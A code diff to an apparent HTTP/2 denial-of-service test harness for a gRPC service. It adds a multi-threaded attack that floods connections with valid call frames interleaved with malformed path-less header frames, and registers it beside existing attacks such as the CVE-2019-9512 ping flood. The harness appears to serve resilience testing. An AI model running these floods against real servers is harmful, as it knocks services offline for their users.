@@ -174,6 +174,30 @@ void CallFromManyAddresses(const Target& target) {
   }
 }
 
+// Calls that are answered beside calls without a path: what the former pay for is used up by the latter.
+void CallNoPathBesideCalls(const Target& target) {
+  const std::string call = CallHeaders("/tributary.v1.FederationService/Participate");
+  const std::string garbage = "\x83\x86" + Literal("te", "trailers");
+  std::vector<std::jthread> connections;
+  for (int i = 0; i < 16; ++i) {
+    connections.emplace_back([&] {
+      OnConnections(target, [&](RawSocket& socket) {
+        std::uint32_t stream = 1;
+        for (bool open = true; open && !target.over;) {
+          std::string bytes;
+          for (int n = 0; n < 10; ++n, stream += 2) {
+            bytes += Frame(kHeaders, kEndHeaders, stream, call) +
+                     Frame(kData, kEndStream, stream, std::string(5, '\0'));
+          }
+          for (int n = 0; n < 40; ++n, stream += 2)
+            bytes += Frame(kHeaders, kEndHeaders | kEndStream, stream, garbage);
+          open = socket.Send(bytes);
+        }
+      });
+    });
+  }
+}
+
 // CVE-2019-9512: gRPC answers each ping by itself, and nobody reads the answers.
 void SendPings(const Target& target) {
   std::string bytes;
@@ -232,6 +256,7 @@ constexpr Attack kAttacks[] = {
      [](const Target& target) { ResetStreams(target, "/tributary.v1.FleetService/ListNodes"); }},
     {"quadratic_headers_beside_an_upload", SendEndlessHeaderBesideAnUpload},
     {"calls_without_a_path", CallNoPathOnManyConnections},
+    {"calls_without_a_path_beside_calls", CallNoPathBesideCalls},
     {"refused_calls", CallWhatIsRefused},
     {"calls_from_many_addresses", CallFromManyAddresses},
     {"pings", SendPings},
